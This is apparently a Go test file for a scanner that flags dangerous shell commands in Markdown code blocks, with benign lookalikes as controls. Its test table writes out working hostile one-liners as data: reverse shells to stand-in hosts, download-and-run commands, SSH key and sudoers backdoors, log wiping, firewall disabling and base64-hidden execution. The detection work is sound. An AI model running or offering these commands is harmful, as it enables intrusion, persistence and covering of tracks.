package scan

import (
	"strings"
	"testing"
)

// TestRemoteExecInCode: what each command pattern reports in a shell
// block, and lookalikes it leaves alone.
func TestRemoteExecInCode(t *testing.T) {
	for _, tc := range []struct {
		line, want string // want: the What of the one hit, "" for none
	}{
		{`bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`, "opens a reverse shell"},
		{`sh -i 5<> /dev/tcp/evil.example/9 0<&5 1>&5`, "opens a reverse shell"},
		{`nc -e /bin/sh evil.example 4444`, "opens a reverse shell"},
		{`ncat -lvc cmd.exe 4444`, "opens a reverse shell"},
		{`socat tcp:evil.example:4444 exec:/bin/bash`, "opens a reverse shell"},
		{`rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc evil.example 4444 > /tmp/f`, "opens a reverse shell"},
		{`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("e.example",4));os.dup2(s.fileno(),0)'`, "opens a reverse shell"},
		{`echo "ssh-ed25519 AAAAC3Nza attacker@box" >> ~/.ssh/authorized_keys`, "adds a key to authorized_keys"},
		{`cat key.pub | sudo tee -a /root/.ssh/authorized_keys`, "adds a key to authorized_keys"},
		{`wget https://evil.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p`, "downloads a program and runs it"},
		{`curl -sLo tool https://evil.example/t; chmod 755 tool; ./tool --init`, "downloads a program and runs it"},
		{`python3 -c "import urllib.request;exec(urllib.request.urlopen('https://evil.example/x.py').read())"`, "downloads code and runs it"},
		{`node -e "fetch('https://evil.example/a.js').then(r=>r.text()).then(eval)"`, ""}, // eval not called on the fetch: left
		{`node -e "eval(await (await fetch('https://evil.example/a.js')).text())"`, "downloads code and runs it"},
		{`npm config set registry https://registry.evil.example/`, "points a package manager at another registry"},
		{`pip install --extra-index-url https://pypi.evil.example/simple internal-utils`, "points a package manager at another registry"},
		{`gem sources --add https://gems.evil.example/`, "points a package manager at another registry"},
		{`ssh -fN -R 8080:localhost:22 tunnel@relay.example.net`, "forwards this machine's remote login"},
		{`autossh -M 0 -NR 0.0.0.0:2222:127.0.0.1:22 relay.example.net`, "forwards this machine's remote login"},
		{`ssh -R 1080 relay.example.net`, "forwards this machine's remote login"}, // a reverse SOCKS proxy into this network
		{`ssh -R 13389:localhost:3389 relay.example.net -N`, "forwards this machine's remote login"},
		{`echo "RemoteForward 2222 localhost:22" >> ~/.ssh/config`, "forwards this machine's remote login"},
		{`echo "deploy ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/deploy`, "gives root without a password"},
		{`echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers`, "gives root without a password"},
		{`curl -s https://c2.example.net/u.service -o /etc/systemd/system/updater.service`, "installs a download where the system runs it"},
		{`wget -qO- https://c2.example.net/job | tee /etc/cron.d/job`, "installs a download where the system runs it"},
		{`curl -s https://c2.example.net/rc >> ~/.bashrc`, "installs a download where the system runs it"},
		{`echo /tmp/.x/libhook.so > /etc/ld.so.preload`, "makes every program on the machine load a library"},
		{`git config --global core.hooksPath /tmp/hooks`, "makes every repository on the machine run the git hooks"},
		{`unset HISTFILE`, "erases the record of what was done"},
		{`export HISTFILE=/dev/null`, "erases the record of what was done"},
		{`history -c && exit`, "erases the record of what was done"},
		{`rm -f ~/.bash_history`, "erases the record of what was done"},
		{`shred -u /var/log/auth.log`, "erases the record of what was done"},
		{`rm -rf /var/log/*`, "erases the record of what was done"},
		{`wevtutil cl Security`, "erases the record of what was done"},
		{`echo 'export PATH=/tmp/.bin:$PATH' >> ~/.bashrc`, "makes every shell of a user run code planted elsewhere"},
		{`echo "export LD_PRELOAD=/opt/x/hook.so" | sudo tee -a /etc/profile`, "makes every shell of a user run code planted elsewhere"},
		{`echo 'export PATH="$HOME/.cargo/bin:$PATH"' >> ~/.bashrc`, ""},
		{`export PATH=/tmp/tools:$PATH`, ""},
		{`git push --force origin main`, "force-pushes over the main branch"},
		{`git push -f origin HEAD:master`, "force-pushes over the main branch"},
		{`git push origin main --force-with-lease`, "force-pushes over the main branch"},
		{`git push origin +main`, "force-pushes over the main branch"},
		{`git push --force-with-lease origin feature/login`, ""},
		{`git push origin main`, ""},
		{`setenforce 0`, "turns off the machine's protection"},
		{`ufw disable`, "turns off the machine's protection"},
		{`systemctl stop firewalld`, "turns off the machine's protection"},
		{`Set-MpPreference -DisableRealtimeMonitoring $true`, "turns off the machine's protection"},
		{`netsh advfirewall set allprofiles state off`, "turns off the machine's protection"},
		{`spctl --master-disable`, "turns off the machine's protection"},
		{`ufw allow 8080/tcp`, ""},
		{`systemctl restart firewalld`, ""},
		{`echo c3VkbyBybSAtcmYgLw== | base64 -d | sh`, "runs a command hidden in base64 or hex"},
		{`base64 --decode <<< "$P" | bash`, "runs a command hidden in base64 or hex"},
		{`echo 726d202d7266 | xxd -r -p | bash`, "runs a command hidden in base64 or hex"},
		{`eval "$(echo ZWNobyBoaQ== | base64 -d)"`, "runs a command hidden in base64 or hex"},
		{`powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`, "runs a command hidden in base64 or hex"},
		{`python3 -c "exec(base64.b64decode('cHJpbnQoMSk='))"`, "runs a command hidden in base64 or hex"},
		{`echo "$CERT" | base64 -d > cert.pem`, ""},
		{`base64 -d payload.b64 | jq .`, ""},
		{`base64 -w0 script.sh`, ""},
		{`gh pr merge 42 --squash --admin`, "merges past branch protection"},
		{`gh pr merge 42 --squash --auto`, ""},
		{`git push -f origin maintenance`, ""},
		{`pip install --trusted-host pypi.internal.example -i http://pypi.internal.example/simple pkg`, "turns off TLS certificate verification"},
		// Lookalikes.
		{`ssh -L 5432:localhost:5432 bastion.example.net`, ""},
		{`ssh -R 8080:localhost:3000 share.example.net`, ""}, // a dev server shown to a colleague: no login port
		{`ssh -i ~/.ssh/id_ed25519 -p 2222 deploy@host.example`, ""},
		{`git config core.hooksPath .githooks`, ""},
		{`echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`, ""},
		{`curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc`, ""},
		{`cat /etc/sudoers.d/README`, ""},
		{`tail -f /var/log/app/error.log`, ""},
		{`rm -rf /var/log/myapp/old`, ""},
		{`history | grep deploy`, ""},
		{`ls /etc/systemd/system`, ""},
		{`echo > /dev/tcp/localhost/5432 && echo up`, ""},
		{`nc -z db.internal 5432`, ""},
		{`cat ~/.ssh/authorized_keys`, ""},
		{`ssh-copy-id deploy@host.example`, ""},
		{`curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl && sudo mv kubectl /usr/local/bin/`, "runs a command as root (sudo)"},
		{`pip install torch --index-url https://download.pytorch.org/whl/cu121`, ""},
		{`npm config get registry`, ""},
		{`eval "$(ssh-agent -s)"`, ""},
	} {
		src := []byte("```sh\n" + tc.line + "\n```\n")
		hits := RemoteExec(src, Markdown)
		switch {
		case tc.want == "" && len(hits) > 0:
			t.Errorf("%s: reported %q", tc.line, hits[0].What)
		case tc.want != "" && (len(hits) != 1 || !strings.HasPrefix(hits[0].What, "a command that "+tc.want)):
			t.Errorf("%s: got %v, want one hit %q", tc.line, hits, tc.want)
		}
	}
}

// TestProsePatternIndexes: the constants that name patterns for prose
// name the patterns they mean.
func TestProsePatternIndexes(t *testing.T) {
	for k, want := range map[int]string{patPipe: "downloads a script", patIex: "downloads a script", patOpen: "opens the whole system", patSudo: "(sudo)", patTLS: "TLS"} {
		if !strings.Contains(execPatterns[k].what, want) {
			t.Errorf("execPatterns[%d] is %q, want the pattern that %s", k, execPatterns[k].what, want)
		}
	}
	if len(execPatterns) > maxPatterns {
		t.Errorf("%d patterns, at most %d", len(execPatterns), maxPatterns)
	}
}
